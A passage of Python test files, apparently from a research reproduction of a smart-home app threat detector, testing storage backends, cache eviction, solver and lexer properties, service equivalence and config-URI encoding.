    assert isinstance(sqlite_backend, SQLiteStoreBackend)
    assert sqlite_backend.path == tmp_path / "store.sqlite"
    named = make_store_backend(f"sqlite:{tmp_path / 'fleet.db'}", tmp_path)
    assert named.path == tmp_path / "fleet.db"
    assert make_store_backend(named, tmp_path) is named
    with pytest.raises(ValueError):
        make_store_backend("postgres", tmp_path)


# ----------------------------------------------------------------------
# SQLite KV backend


def test_sqlite_backend_equivalent_to_directory(tmp_path):
    rulesets, resolver = build_store(8)
    removals = [rulesets[3].app_name]
    _, dir_store, _ = drive_commits(
        tmp_path / "dir", rulesets, resolver, removals=removals
    )
    _, sql_store, _ = drive_commits(
        tmp_path / "sql", rulesets, resolver, backend="sqlite",
        removals=removals,
    )
    assert (tmp_path / "sql" / "store.sqlite").is_file()
    assert not (tmp_path / "sql" / "meta.json").exists()
    assert canonical_state(sql_store) == canonical_state(dir_store)
    warm = DetectionStore(tmp_path / "sql", backend="sqlite").warm_start(
        resolver
    )
    assert not warm.cold and warm.pipeline.stats.solver_calls == 0


def test_sqlite_namespaces_share_one_database(tmp_path):
    rulesets, resolver = build_store(8)
    shared = SQLiteStoreBackend(tmp_path / "fleet.db")
    half = len(rulesets) // 2
    _, store_a, _ = drive_commits(
        tmp_path / "a", rulesets[:half], resolver,
        backend=shared.namespace("home-a"),
    )
    _, store_b, _ = drive_commits(
        tmp_path / "b", rulesets[half:], resolver,
        backend=shared.namespace("home-b"),
    )
    # One database file; both stores load their own state back.
    snap_a = store_a.load()
    snap_b = store_b.load()
    assert sorted(snap_a.apps) == sorted(r.app_name for r in rulesets[:half])
    assert sorted(snap_b.apps) == sorted(r.app_name for r in rulesets[half:])
    # A reopened view (fresh process) sees the same canonical state.
    reopened = DetectionStore(
        tmp_path / "a",
        backend=SQLiteStoreBackend(tmp_path / "fleet.db", "home-a"),
    )
    assert canonical_state(reopened) == canonical_state(store_a)


def test_sqlite_corruption_degrades_to_cold_store(tmp_path):
    db = tmp_path / "corrupt.db"
    db.write_bytes(b"definitely not a sqlite database" * 64)
    with pytest.warns(RuntimeWarning, match="degrading to a cold store"):
        backend = SQLiteStoreBackend(db)
    store = DetectionStore(tmp_path / "s", backend=backend)
    assert store.load() is None
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", RuntimeWarning)
        rulesets, resolver = build_store(4)
        warm = store.warm_start(resolver, rulesets)
        assert warm.cold
        assert sorted(warm.stale_apps) == sorted(
            r.app_name for r in rulesets
        )
    # The file is never deleted: diagnosis stays possible, and a
    # healthy controller sharing the path is never sabotaged.
    assert db.read_bytes().startswith(b"definitely not")


# ----------------------------------------------------------------------
# Service-level residency: lazy hydration + LRU eviction


def fleet_service(store_root, **kwargs):
    kwargs.setdefault("workers", None)
    kwargs.setdefault("policy", SeverityThresholdPolicy(threshold=10**6))
    service = HomeGuardService(store_root=store_root, **kwargs)
    service.preload([app_by_name("ComfortTV"), app_by_name("ColdDefender")])
    return service


def churn(service, home_ids):
    """Install two apps into every home, interleaved so each home is
    touched, evicted (in the bounded arm) and touched again."""
    reports = []
    for home_id in home_ids:
        service.create_home(home_id)
        service.register_device(home_id, "TV", "tv")
        service.register_device(home_id, "Temp", "temperatureSensor")
        service.register_device(home_id, "Window", "windowOpener")
        session = service.install(
            InstallRequest(home_id=home_id, **COMFORT_TV)
        )
        reports.append((home_id, session.decision, session.report))
    for home_id in home_ids:
        session = service.install(
            InstallRequest(home_id=home_id, **COLD_DEFENDER)
        )
        reports.append((home_id, session.decision, session.report))
    return reports


def test_lru_bounded_service_matches_unbounded(tmp_path):
    home_ids = [f"h{i:02d}" for i in range(10)]
    bound = 3
    unbounded = fleet_service(tmp_path / "unbounded")
    bounded = fleet_service(
        tmp_path / "bounded", max_resident_homes=bound
    )
    reference = churn(unbounded, home_ids)
    peak = 0
    results = []
    for step in churn(bounded, home_ids):
        results.append(step)
        peak = max(peak, bounded.resident_count())
    assert peak <= bound
    assert bounded.home_count() == len(home_ids)
    assert bounded.homes() == unbounded.homes()
    # Same decisions, same wire reports, on every single install.
    assert [
        (home_id, decision, report.to_json())
        for home_id, decision, report in results
    ] == [
        (home_id, decision, report.to_json())
        for home_id, decision, report in reference
    ]
    # Same persisted store state per home, byte for byte.
    for home_id in home_ids:
        assert canonical_state(
            DetectionStore(tmp_path / "bounded" / home_id)
        ) == canonical_state(
            DetectionStore(tmp_path / "unbounded" / home_id)
        )
    # The storage counters flow to the wire record.  (Per-home stats
    # are per-residency, like any in-memory counter across a restart:
    # ask a home that committed since its last hydration.)
    record = bounded.detection_stats_record(home_ids[-1])
    assert record.store_bytes_written > 0
    assert record.store_commit_seconds > 0


def test_eviction_is_a_warm_restart(tmp_path):
    service = fleet_service(tmp_path / "root", max_resident_homes=1)
    service.create_home("h1")
    service.register_device("h1", "TV", "tv")
    service.register_device("h1", "Temp", "temperatureSensor")
    service.register_device("h1", "Window", "windowOpener")
    service.install(InstallRequest(home_id="h1", **COMFORT_TV))
    first = service.home("h1")
    # Touching a second home evicts h1 (bound is 1, h1 has no pending
    # sessions and a committed store).
    service.create_home("h2")
    assert service.resident_count() == 1
    assert service.home_count() == 2
    rehydrated = service.home("h1")
    assert rehydrated is not first  # a fresh hydration, not the object
    assert rehydrated.installed_apps() == ["ComfortTV"]
    assert [review.decision for review in rehydrated.reviews] == ["keep"]
    # And it keeps working: the next install detects against the
    # restored history without re-solving the restored apps.
    session = service.install(InstallRequest(home_id="h1", **COLD_DEFENDER))
    assert any(t.type == "AR" for t in session.report.threats)


def test_pending_sessions_pin_homes_over_the_bound(tmp_path):
    service = fleet_service(
        tmp_path / "root", max_resident_homes=1, policy=None
    )  # default InteractivePolicy: sessions stay pending
    sessions = {}
    for home_id in ("h1", "h2", "h3"):
        service.create_home(home_id)
        service.register_device(home_id, "TV", "tv")
        service.register_device(home_id, "Temp", "temperatureSensor")
        service.register_device(home_id, "Window", "windowOpener")
        sessions[home_id] = service.install(
            InstallRequest(home_id=home_id, **COMFORT_TV)
        )
    # All three stay resident: their pending reviews exist only in
    # memory, so eviction would lose acknowledged sessions.
    assert service.resident_count() == 3
    for home_id, session in sessions.items():
        decided = service.decide(
            DecisionRequest(
                home_id=home_id, session_id=session.session_id,
                decision="keep",
            )
        )
        assert decided.decision == "keep"
    # Decisions un-pin: the LRU bound applies again.
    assert service.resident_count() == 1
    assert sorted(service.installed_apps(h) for h in ("h1", "h2", "h3")) == [
        ["ComfortTV"]
    ] * 3


def test_homes_without_stores_are_never_evicted(tmp_path):
    service = HomeGuardService(
        workers=None, max_resident_homes=1, **KEEP_ALL
    )
    for home_id in ("h1", "h2", "h3"):
        service.create_home(home_id)
    # No store to re-hydrate from: eviction would destroy state.
    assert service.resident_count() == 3


def test_fleet_sqlite_backend_packs_fleet_into_one_file(tmp_path):
    home_ids = [f"h{i}" for i in range(4)]
    dir_arm = fleet_service(tmp_path / "dir")
    sql_arm = fleet_service(
        tmp_path / "sql", store_backend="sqlite", max_resident_homes=2
    )
    churn(dir_arm, home_ids)
    churn(sql_arm, home_ids)
    assert (tmp_path / "sql" / "store.sqlite").is_file()
    shared = SQLiteStoreBackend(tmp_path / "sql" / "store.sqlite")
    for home_id in home_ids:
        assert canonical_state(
            DetectionStore(
                tmp_path / "sql" / home_id,
                backend=shared.namespace(home_id),
            )
        ) == canonical_state(
            DetectionStore(tmp_path / "dir" / home_id)
        )
        # No per-home directory sprawl.
        assert not (tmp_path / "sql" / home_id).exists()
