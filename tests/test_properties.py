"""Property-based tests (hypothesis) on core data structures and
invariants."""

import string

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.config.uri import ConfigPayload, decode_uri, encode_uri
from repro.constraints.solver import Solver, VarPool
from repro.constraints.terms import (
    AffineTerm,
    CmpAtom,
    StrTerm,
    conj,
    disj,
    lit,
    neg,
)
from repro.lang import tokenize
from repro.lang.tokens import TokenType
from repro.symex.values import (
    BinExpr,
    Const,
    DeviceAttr,
    DeviceRef,
    EventValue,
    LocalVar,
    NotExpr,
    UserInput,
    from_json,
    negate,
    to_json,
)

# ----------------------------------------------------------------------
# Strategies

_ident = st.text(alphabet=string.ascii_lowercase, min_size=1, max_size=8)
_atoms = st.one_of(
    st.builds(Const, st.integers(min_value=-1000, max_value=1000)),
    st.builds(Const, st.text(alphabet=string.ascii_lowercase, max_size=6)),
    st.builds(Const, st.booleans()),
    st.builds(EventValue),
    st.builds(UserInput, _ident, st.just("number")),
    st.builds(LocalVar, _ident, st.integers(min_value=0, max_value=3)),
    st.builds(
        DeviceAttr,
        st.builds(DeviceRef, _ident, st.just("capability.switch")),
        st.sampled_from(["switch", "level", "temperature"]),
    ),
)


def _exprs(depth=2):
    if depth == 0:
        return _atoms
    sub = _exprs(depth - 1)
    return st.one_of(
        _atoms,
        st.builds(BinExpr, st.sampled_from(["==", "!=", "<", ">", "&&", "||", "+"]),
                  sub, sub),
        st.builds(NotExpr, sub),
    )


# ----------------------------------------------------------------------
# Symbolic expression properties


@given(_exprs())
@settings(max_examples=200)
def test_symexpr_json_roundtrip(expr):
    assert from_json(to_json(expr)) == expr


@given(_exprs())
@settings(max_examples=200)
def test_double_negation_is_identity_on_comparisons(expr):
    once = negate(expr)
    twice = negate(once)
    # negate is an involution up to comparison-flipping: applying it twice
    # must reproduce an equivalent formula; for comparisons and NotExpr
    # it is literally the identity.
    if isinstance(expr, (BinExpr, NotExpr)):
        if isinstance(expr, BinExpr) and expr.is_comparison:
            assert twice == expr
        if isinstance(expr, NotExpr):
            assert once == expr.operand


@given(_exprs())
@settings(max_examples=100)
def test_walk_yields_self_first(expr):
    nodes = list(expr.walk())
    assert nodes[0] is expr
    for child in expr.children():
        assert child in nodes


# ----------------------------------------------------------------------
# Lexer properties


@given(st.text(alphabet=string.printable, max_size=60))
@settings(max_examples=300)
def test_lexer_never_crashes_unexpectedly(text):
    """The lexer either returns tokens or raises its declared LexError."""
    from repro.lang import LexError

    try:
        tokens = tokenize(text)
    except LexError:
        return
    assert tokens[-1].type is TokenType.EOF


@given(st.lists(st.integers(min_value=0, max_value=10**9), min_size=1,
                max_size=10))
def test_lexer_integer_fidelity(values):
    source = " ".join(str(v) for v in values)
    tokens = tokenize(source)
    lexed = [t.value for t in tokens if t.type is TokenType.INT]
    assert lexed == values


@given(st.text(alphabet=string.ascii_letters + " _", max_size=30))
def test_string_literal_roundtrip(text):
    tokens = tokenize(f'"{text}"')
    assert tokens[0].value == text


# ----------------------------------------------------------------------
# Solver properties


@given(
    st.integers(min_value=-100, max_value=100),
    st.integers(min_value=-100, max_value=100),
)
def test_solver_interval_consistency(a, b):
    """x > a && x < b is SAT iff the open interval is non-empty."""
    pool = VarPool()
    pool.declare_num("x", -1000, 1000)
    formula = conj([
        lit(CmpAtom(AffineTerm("x"), ">", AffineTerm.const(a))),
        lit(CmpAtom(AffineTerm("x"), "<", AffineTerm.const(b))),
    ])
    result = Solver(pool).solve(formula)
    assert result.sat == (a < b - 0.01)
    if result.sat:
        assert a < result.witness["x"] < b


@given(st.lists(st.sampled_from(["on", "off", "dim", "strobe"]),
                min_size=1, max_size=4, unique=True),
       st.sampled_from(["on", "off", "dim", "strobe"]))
def test_solver_enum_membership(domain, target):
    pool = VarPool()
    pool.declare_str("s", set(domain))
    formula = lit(CmpAtom(StrTerm("s"), "==", StrTerm(None, target)))
    result = Solver(pool).solve(formula)
    assert result.sat == (target in domain)


@given(
    st.integers(min_value=-50, max_value=50),
    st.integers(min_value=-50, max_value=50),
    st.integers(min_value=-50, max_value=50),
)
def test_solver_negation_excluded_middle(a, b, c):
    """F || !F is always SAT; F && !F is never SAT."""
    pool = VarPool()
    pool.declare_num("x", -100, 100)
    formula = conj([
        lit(CmpAtom(AffineTerm("x"), ">", AffineTerm.const(a))),
        disj([
            lit(CmpAtom(AffineTerm("x"), "<", AffineTerm.const(b))),
            lit(CmpAtom(AffineTerm("x"), ">=", AffineTerm.const(c))),
        ]),
    ])
    both = conj([formula, neg(formula)])
    either = disj([formula, neg(formula)])
    assert not Solver(pool).solve(both).sat
    assert Solver(pool).solve(either).sat


# ----------------------------------------------------------------------
# Config URI properties

_id_strategy = st.uuids().map(str)
_name_strategy = st.text(
    alphabet=string.ascii_letters + string.digits, min_size=1, max_size=12
)


@given(
    _name_strategy,
    st.dictionaries(_name_strategy, _id_strategy, max_size=5),
    st.dictionaries(
        _name_strategy,
        st.text(alphabet=string.ascii_letters + string.digits + " .%-",
                min_size=1, max_size=15),
        max_size=5,
    ),
)
@settings(max_examples=200)
def test_config_uri_roundtrip(app_name, devices, values):
    # Input names are unique across the two maps by construction in real
    # apps; enforce that precondition here.
    values = {k: v for k, v in values.items() if k not in devices}
    payload = ConfigPayload(app_name=app_name, devices=devices, values=values)
    decoded = decode_uri(encode_uri(payload))
    assert decoded.app_name == app_name
    assert decoded.devices == devices
    assert decoded.values == {k: str(v) for k, v in values.items()}


# ----------------------------------------------------------------------
# Rule serialization property (via generated rules)


@given(st.sampled_from([
    "ComfortTV", "ColdDefender", "CatchLiveShow", "BurglarFinder",
    "NightCare", "LetThereBeDark", "EnergySaver", "SmartNightlight",
    "LightUpTheNight", "MakeItSo",
]))
@settings(max_examples=20, deadline=None)
def test_corpus_rules_serialize_roundtrip(app_name):
    from repro.corpus import app_by_name
    from repro.rules import extract_rules, ruleset_from_json, ruleset_to_json

    ruleset = extract_rules(app_by_name(app_name).source, app_name)
    back = ruleset_from_json(ruleset_to_json(ruleset))
    assert back.rules == ruleset.rules
