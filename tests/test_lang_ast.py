"""Tests for AST utilities: walk, child iteration, visitor pattern."""

from repro.lang import parse
from repro.lang import ast_nodes as ast


SOURCE = '''
definition(name: "WalkMe")
input "sw1", "capability.switch"
def installed() { subscribe(sw1, "switch.on", h) }
def h(evt) {
    def t = 5
    if (t > 3) {
        sw1.off()
    } else {
        sw1.on()
    }
}
'''


def test_walk_covers_nested_nodes():
    module = parse(SOURCE)
    method = module.methods["h"]
    kinds = {type(node).__name__ for node in ast.walk(method)}
    assert {"MethodDecl", "Block", "VarDecl", "IfStmt", "BinaryOp",
            "MethodCall", "Identifier", "IntLiteral"} <= kinds


def test_iter_child_nodes_direct_children_only():
    module = parse(SOURCE)
    if_stmt = module.methods["h"].body.statements[1]
    children = list(ast.iter_child_nodes(if_stmt))
    assert len(children) == 3  # condition, then-block, else-block
    assert isinstance(children[0], ast.BinaryOp)


def test_visitor_dispatch():
    class CallCounter(ast.NodeVisitor):
        def __init__(self):
            self.calls = []

        def visit_MethodCall(self, node):
            self.calls.append(node.name)
            self.generic_visit(node)

    module = parse(SOURCE)
    visitor = CallCounter()
    for method in module.methods.values():
        visitor.visit(method)
    assert "subscribe" in visitor.calls
    assert "off" in visitor.calls
    assert "on" in visitor.calls


def test_generic_visit_recurses_by_default():
    class LiteralFinder(ast.NodeVisitor):
        def __init__(self):
            self.values = []

        def visit_IntLiteral(self, node):
            self.values.append(node.value)

    module = parse(SOURCE)
    finder = LiteralFinder()
    finder.visit(module.methods["h"])
    assert finder.values == [5, 3]


def test_module_method_lookup():
    module = parse(SOURCE)
    assert module.method("h") is not None
    assert module.method("missing") is None


def test_named_args_helpers():
    module = parse('foo(1, 2, title: "x", required: true)')
    call = module.top_level[0].expr
    assert [a.value for a in call.positional_args()] == [1, 2]
    named = call.named_args()
    assert set(named) == {"title", "required"}


def test_block_iterates_statements():
    module = parse(SOURCE)
    body = module.methods["h"].body
    assert len(list(body)) == 2


def test_source_locations_preserved():
    module = parse(SOURCE)
    handler = module.methods["h"]
    assert handler.location.line == 5
    if_stmt = handler.body.statements[1]
    assert if_stmt.location.line == 7
