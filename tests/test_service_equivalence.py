"""Legacy-equivalence gate for the service redesign (DESIGN.md §11).

The ``HomeGuardService`` surface must be a pure *API* change: driving a
home through typed requests + ``InteractivePolicy`` decisions yields
**byte-identical** threat sets, solve caches and on-disk store bytes
as the legacy ``HomeGuard``/``HomeGuardApp`` flow, for the demo and
generated corpora, on the serial and ``auto`` dispatchers.  Two homes
sharing one service (and one dispatcher) must likewise match two
isolated single-home deployments exactly.

Every wire object produced along the way must survive a JSON
dump/load round-trip with the schema version asserted.

Run under both the default hash seed and ``PYTHONHASHSEED=0``
(``make test-hashseed``): multi-tenant interleaving must not let
set/dict iteration order leak into any home's results.
"""

import json
import warnings
from pathlib import Path

import pytest

from repro.corpus import app_by_name, device_controlling_apps
from repro.service import (
    WIRE_SCHEMA_VERSION,
    AuditRequest,
    DecisionRequest,
    HomeGuardService,
    InstallRequest,
    InstallSession,
    ThreatReport,
)

# ----------------------------------------------------------------------
# Install plans: (app, device-input -> label, values)

DEMO_DEVICES = [
    ("TV", "tv"),
    ("Temp", "temperatureSensor"),
    ("Window", "windowOpener"),
    ("Voice", "speaker"),
    ("Lamp", "floorLamp"),
    ("Motion", "motionSensor"),
    ("Siren", "siren"),
    ("Switch", "switch"),
    ("Lock", "doorLock"),
]

DEMO_PLAN = [
    ("ComfortTV",
     {"tv1": "TV", "tSensor": "Temp", "window1": "Window"},
     {"threshold1": 30}),
    ("ColdDefender",
     {"tv2": "TV", "window2": "Window"},
     {"weather": "rainy"}),
    ("CatchLiveShow",
     {"voice": "Voice", "tv3": "TV"},
     {"showDay": "Thursday"}),
    ("BurglarFinder",
     {"lamp1": "Lamp", "motion1": "Motion", "alarm1": "Siren"},
     {}),
    ("NightCare", {"lamp2": "Lamp"}, {}),
    ("SwitchChangesMode",
     {"master": "Switch"},
     {"onMode": "Home", "offMode": "Away"}),
    ("MakeItSo",
     {"switches": "Switch", "locks": "Lock"},
     {"targetMode": "Home", "heatSetpoint": 70}),
    # Completes the paper's §VIII-B motion->mode->unlock chain, so the
    # equivalence covers chained threats and the Allowed list too.
    ("CurlingIron",
     {"motion1": "Motion", "outlets": "Switch"},
     {"minutesLater": 30}),
]

# 18 shared-device apps give ~1.5k threat instances (incl. chains)
# while keeping the KEEP-everything Allowed-list chain graph tractable
# — a couple more apps and find_chains' path enumeration explodes.
GENERATED_APPS = 18


def generated_setup():
    """A generated-corpus plan: one shared device per device type
    (labels = type names), so apps interfere exactly like the
    repository-analysis mode."""
    apps = list(device_controlling_apps())[:GENERATED_APPS]
    types = sorted({t for app in apps for t in app.type_hints.values()})
    devices = [(t, t) for t in types]
    plan = [(app.name, dict(app.type_hints), dict(app.values))
            for app in apps]
    return devices, plan


def setup_for(corpus_name):
    if corpus_name == "demo":
        return DEMO_DEVICES, DEMO_PLAN
    return generated_setup()


# ----------------------------------------------------------------------
# Fingerprints (loss-free: order, types, rules, details, witnesses,
# chain paths, decisions all participate)


def _legacy_threats(review, app_name=None):
    return [
        (app_name or review.app_name, threat.type.value,
         threat.rule_a.rule_id, threat.rule_b.rule_id, threat.detail,
         tuple(threat.witness),
         tuple(rule.rule_id for rule in threat.chain))
        for threat in (*review.threats, *review.chains)
    ]


def _wire_threats(report):
    return [
        (report.app_name, record.type, record.rule_a, record.rule_b,
         record.detail, tuple(record.witness), tuple(record.chain))
        for record in (*report.threats, *report.chains)
    ]


def _store_bytes(store_dir):
    return {
        path.name: path.read_bytes()
        for path in sorted(Path(store_dir).iterdir())
    }


def _round_trip(obj):
    """Assert the wire contract on a live response object, then hand
    back its decoded twin (which the comparisons below use, so a lossy
    encoding would also break equivalence)."""
    encoded = obj.to_json()
    assert encoded["schema"] == WIRE_SCHEMA_VERSION
    decoded = type(obj).from_json(json.loads(json.dumps(encoded)))
    assert decoded == obj
    return decoded


# ----------------------------------------------------------------------
# The two drivers


def run_legacy(devices, plan, store_dir, workers):
    """The pre-redesign surface: HomeGuard facade + interactive keeps."""
    from repro import HomeGuard

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        hg = HomeGuard(transport="http", store_path=str(store_dir),
                       workers=workers)
    try:
        for label, type_name in devices:
            hg.register_device(label, type_name)
        threats = []
        for name, bindings, values in plan:
            review = hg.install(app_by_name(name), devices=bindings,
                                values=values)
            threats.extend(_legacy_threats(review))
        audit = []
        for review in hg.audit_existing():
            audit.extend(_legacy_threats(review))
        return {
            "threats": threats,
            "audit": audit,
            "caches": json.dumps(hg.pipeline.engine.export_caches(),
                                 default=str),
            "store": _store_bytes(store_dir),
            "installed": hg.installed_apps(),
        }
    finally:
        hg.close()


def run_service(devices, plan, store_dir, workers, home_id="home",
                solve_cache=None):
    """The redesigned surface: typed requests, InteractivePolicy, one
    explicit DecisionRequest per install."""
    service = HomeGuardService(workers=workers, solve_cache=solve_cache)
    try:
        service.preload([app_by_name(name) for name, _, _ in plan])
        service.create_home(home_id, store_path=store_dir)
        for label, type_name in devices:
            service.register_device(home_id, label, type_name)
        threats = []
        for name, bindings, values in plan:
            session = service.install(InstallRequest(
                home_id=home_id, app_name=name,
                devices=bindings, values=values,
            ))
            assert session.pending  # InteractivePolicy defers, as the paper does
            session = service.decide(DecisionRequest(
                home_id=home_id, session_id=session.session_id,
                decision="keep",
            ))
            threats.extend(_wire_threats(_round_trip(session).report))
        audit = []
        for report in service.audit(AuditRequest(home_id=home_id)):
            audit.extend(_wire_threats(_round_trip(report)))
        return {
            "threats": threats,
            "audit": audit,
            "caches": json.dumps(
                service.home(home_id).pipeline.engine.export_caches(),
                default=str),
            "store": _store_bytes(store_dir),
            "installed": service.installed_apps(home_id),
        }
    finally:
        service.close()


def run_transport(devices, plan, store_dir, workers, home_id="home",
                  solve_cache=None):
    """The fleet-transport surface (DESIGN.md §13): the same typed
    requests as :func:`run_service`, but through a live loopback
    JSON-RPC server — every request crosses the socket."""
    from repro.service.transport import FleetClient, serve_background

    service = HomeGuardService(workers=workers, solve_cache=solve_cache,
                               store_root=store_dir)
    try:
        service.preload([app_by_name(name) for name, _, _ in plan])
        threats = []
        audit = []
        with serve_background(service) as live:
            with FleetClient(live.host, live.port) as client:
                client.create_home(home_id)
                for label, type_name in devices:
                    client.register_device(home_id, label, type_name)
                for name, bindings, values in plan:
                    session = client.install(InstallRequest(
                        home_id=home_id, app_name=name,
                        devices=bindings, values=values,
                    ))
                    assert session.pending
                    session = client.decide(DecisionRequest(
                        home_id=home_id, session_id=session.session_id,
                        decision="keep",
                    ))
                    threats.extend(_wire_threats(_round_trip(session).report))
                for report in client.audit(AuditRequest(home_id=home_id)):
                    audit.extend(_wire_threats(_round_trip(report)))
                assert client.status().internal_errors == 0
        # The server has drained and closed; the caches and store are
        # whatever the socket-driven flow left behind.
        return {
            "threats": threats,
            "audit": audit,
            "caches": json.dumps(
                service.home(home_id).pipeline.engine.export_caches(),
                default=str),
            "store": _store_bytes(Path(store_dir) / home_id),
            "installed": service.installed_apps(home_id),
        }
    finally:
        service.close()


# ----------------------------------------------------------------------
# The gate


@pytest.mark.parametrize("workers", ["serial", "auto"])
@pytest.mark.parametrize("corpus_name", ["demo", "generated"])
def test_service_matches_legacy_flow(corpus_name, workers, tmp_path):
    devices, plan = setup_for(corpus_name)
    legacy = run_legacy(devices, plan, tmp_path / "legacy", workers)
    served = run_service(devices, plan, tmp_path / "service", workers)
    assert legacy["threats"], "corpus produced no threats to compare"
    assert served["threats"] == legacy["threats"]
    assert served["audit"] == legacy["audit"]
    assert served["caches"] == legacy["caches"]
    assert served["installed"] == legacy["installed"]
    # Byte-identical persistence: same filenames, same bytes.
    assert served["store"] == legacy["store"]
    assert any(name.startswith("shard-") for name in legacy["store"])


@pytest.mark.parametrize("workers", ["serial", "auto"])
def test_transport_matches_legacy_flow(workers, tmp_path):
    """The loopback equivalence gate (DESIGN.md §13): driving the demo
    plan across the socket — strict wire decode, admission control and
    fair scheduling in the path — yields byte-identical threats, solve
    caches and store bytes as the legacy in-process flow.  The
    transport is a front end, never a semantic layer."""
    devices, plan = setup_for("demo")
    legacy = run_legacy(devices, plan, tmp_path / "legacy", workers)
    served = run_transport(devices, plan, tmp_path / "socket", workers)
    assert legacy["threats"], "corpus produced no threats to compare"
    assert served["threats"] == legacy["threats"]
    assert served["audit"] == legacy["audit"]
    assert served["caches"] == legacy["caches"]
    assert served["installed"] == legacy["installed"]
    assert served["store"] == legacy["store"]


def test_demo_plan_exercises_chains(tmp_path):
    # The equivalence above is only as strong as what the plan covers:
    # pin that it includes a chained threat (CurlingIron -> ... ->
    # MakeItSo) so chain records are part of the byte-equality claim.
    served = run_service(DEMO_DEVICES, DEMO_PLAN, tmp_path / "s", None)
    assert any(len(t[6]) >= 3 for t in served["threats"])


# ----------------------------------------------------------------------
# Multi-tenant: N homes over one service/dispatcher == N isolated
# single-home deployments (satellite of the service redesign)


def _split_demo_plan():
    home_a = DEMO_PLAN[:3]    # TV/temperature cluster
    home_b = DEMO_PLAN[3:]    # lamp/motion + chain cluster
    return home_a, home_b


@pytest.mark.parametrize("workers", [None, "process:2"])
def test_two_tenants_match_isolated_deployments(workers, tmp_path):
    """Two homes interleaved over ONE service (sharing its dispatcher
    and worker pool) must produce exactly the threats and store bytes
    of two isolated HomeGuard instances — tenancy is invisible to
    detection."""
    plan_a, plan_b = _split_demo_plan()

    service = HomeGuardService(workers=workers)
    try:
        service.preload([app_by_name(name) for name, _, _ in DEMO_PLAN])
        for home_id, plan in (("alice", plan_a), ("bob", plan_b)):
            service.create_home(home_id,
                                store_path=tmp_path / f"svc-{home_id}")
            for label, type_name in DEMO_DEVICES:
                service.register_device(home_id, label, type_name)
        shared = {"alice": [], "bob": []}
        # Strict interleaving: every other install lands on the other
        # home, all over the same dispatcher.
        interleaved = []
        for i in range(max(len(plan_a), len(plan_b))):
            if i < len(plan_a):
                interleaved.append(("alice", plan_a[i]))
            if i < len(plan_b):
                interleaved.append(("bob", plan_b[i]))
        for home_id, (name, bindings, values) in interleaved:
            session = service.install(InstallRequest(
                home_id=home_id, app_name=name,
                devices=bindings, values=values,
            ))
            session = service.decide(DecisionRequest(
                home_id=home_id, session_id=session.session_id,
                decision="keep",
            ))
            shared[home_id].extend(
                _wire_threats(_round_trip(session).report)
            )
        shared_store = {
            home_id: _store_bytes(tmp_path / f"svc-{home_id}")
            for home_id in ("alice", "bob")
        }
    finally:
        service.close()

    # The isolated references run inline (workers=None): per the §9
    # guarantee the backend is a pure performance choice, so the shared
    # pool must change nothing either.
    for home_id, plan in (("alice", plan_a), ("bob", plan_b)):
        isolated = run_legacy(DEMO_DEVICES, plan,
                              tmp_path / f"iso-{home_id}", None)
        assert shared[home_id] == isolated["threats"], home_id
        assert shared_store[home_id] == isolated["store"], home_id
    assert any(shared["alice"]) or any(shared["bob"])


# ----------------------------------------------------------------------
# Shared cross-tenant solve cache (DESIGN.md §12): a pure performance
# feature on the service surface too.


@pytest.mark.parametrize("workers", ["serial", "auto"])
@pytest.mark.parametrize("cache_spec", ["lru", "sqlite"])
def test_shared_cache_service_matches_legacy(cache_spec, workers, tmp_path):
    devices, plan = setup_for("demo")
    legacy = run_legacy(devices, plan, tmp_path / "legacy", workers)
    spec = (
        "lru" if cache_spec == "lru"
        else f"sqlite:{tmp_path / 'fleet.db'}"
    )
    served = run_service(devices, plan, tmp_path / "service", workers,
                         solve_cache=spec)
    assert served["threats"] == legacy["threats"]
    assert served["audit"] == legacy["audit"]
    assert served["caches"] == legacy["caches"]
    assert served["store"] == legacy["store"]


def test_identical_tenants_share_solves(tmp_path):
    """The tentpole win: a second tenant installing a structurally
    identical corpus is served entirely from the shared cache — zero
    solver calls — with threats and store bytes still byte-identical
    to the first tenant's."""
    service = HomeGuardService(solve_cache="lru")
    try:
        service.preload([app_by_name(name) for name, _, _ in DEMO_PLAN])
        threats = {}
        for home_id in ("alice", "bob"):
            service.create_home(home_id,
                                store_path=tmp_path / f"svc-{home_id}")
            for label, type_name in DEMO_DEVICES:
                service.register_device(home_id, label, type_name)
            threats[home_id] = []
            for name, bindings, values in DEMO_PLAN:
                session = service.install(InstallRequest(
                    home_id=home_id, app_name=name,
                    devices=bindings, values=values,
                ))
                session = service.decide(DecisionRequest(
                    home_id=home_id, session_id=session.session_id,
                    decision="keep",
                ))
                threats[home_id].extend(_wire_threats(session.report))
        assert threats["alice"]
        assert threats["alice"] == threats["bob"]
        assert _store_bytes(tmp_path / "svc-alice") == _store_bytes(
            tmp_path / "svc-bob"
        )
        # The counters travel the wire (schema v2 field addition).
        record = _round_trip(service.detection_stats_record("bob"))
        assert record.home_id == "bob"
        assert record.solver_calls == 0
        assert record.shared_cache_hits > 0
        assert record.shared_cache_publishes == 0
        first = service.detection_stats("alice")
        assert first.solver_calls + first.shared_cache_hits == (
            record.shared_cache_hits
        )
    finally:
        service.close()
