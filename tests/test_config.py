"""Tests for configuration collection: instrumentation, URIs, messaging,
recorders (paper §VII)."""

import pytest

from repro.capabilities.devices import make_device_id
from repro.config import (
    ConfigPayload,
    ConfigRecorder,
    FcmHttpTransport,
    RuleRecorder,
    SmsTransport,
    decode_uri,
    encode_uri,
    instrument_app,
)
from repro.config.messaging import CLOUD_PROCESSING_MS
from repro.corpus import app_by_name
from repro.rules import extract_rules
from repro.symex.values import DeviceRef


# ----------------------------------------------------------------------
# URI encoding

def payload():
    return ConfigPayload(
        app_name="ComfortTV",
        devices={
            "tv1": make_device_id("tv"),
            "tSensor": make_device_id("sensor"),
            "window1": make_device_id("win"),
        },
        values={"threshold1": "30"},
    )


def test_uri_roundtrip():
    original = payload()
    uri = encode_uri(original)
    assert uri.startswith("http://my.com/appname:ComfortTV/")
    decoded = decode_uri(uri)
    assert decoded == original


def test_uri_typed_values():
    decoded = decode_uri(encode_uri(payload()))
    assert decoded.typed_values()["threshold1"] == 30


def test_uri_with_special_characters():
    original = ConfigPayload(
        app_name="My App/2",
        devices={"d": make_device_id("x")},
        values={"msg": "hello world: 50%"},
    )
    decoded = decode_uri(encode_uri(original))
    assert decoded.app_name == "My App/2"
    assert decoded.values["msg"] == "hello world: 50%"


def test_uri_rejects_foreign():
    with pytest.raises(ValueError):
